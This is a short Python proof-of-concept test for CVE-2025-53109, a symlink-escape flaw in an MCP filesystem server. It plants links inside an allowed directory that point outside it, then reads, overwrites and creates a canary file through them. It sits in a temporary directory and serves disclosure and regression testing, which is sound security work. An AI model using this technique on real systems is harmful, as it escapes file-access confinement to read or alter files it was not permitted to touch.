"""CVE-2025-53109 (SYMLINK-01, -04, -09, -10; CONFINE-12): a link inside the allowed directory
that points outside is followed. validatePath throws "symlink target outside allowed
directories" inside its own try block, whose catch falls back to checking the link's *parent*
folder, which is allowed, and returns the unresolved path: the read returns the outside file,
the write rewrites it.

    python3 symlink_escape.py        # exit 1: the canary outside the root was read and rewritten
"""

import tempfile
from pathlib import Path

from mcp_stdio import Server, verdict

with tempfile.TemporaryDirectory() as base:
    root, outside = Path(base, "root"), Path(base, "outside")
    root.mkdir()
    outside.mkdir()
    canary = outside / "secret.txt"
    canary.write_text("outside secret\n")
    (root / "link_out_file").symlink_to(canary)
    (root / "dangling_out").symlink_to(outside / "created_by_escape.txt")
    with Server(root) as server:
        _, read = server.call("read_file", path=str(root / "link_out_file"))
        server.call("write_file", path=str(root / "link_out_file"), content="overwritten\n")
        server.call("write_file", path=str(root / "dangling_out"), content="x")
    leaked = "outside secret" in read
    rewritten = canary.read_text() != "outside secret\n"
    created = (outside / "created_by_escape.txt").exists()
    print(f"read through the link answered {read!r}; the canary now holds {canary.read_text()!r}")
    verdict(leaked or rewritten or created, "a link out of the root was followed (read leaked: "
            f"{leaked}, outside file rewritten: {rewritten}, created through a dangling link: "
            f"{created})")
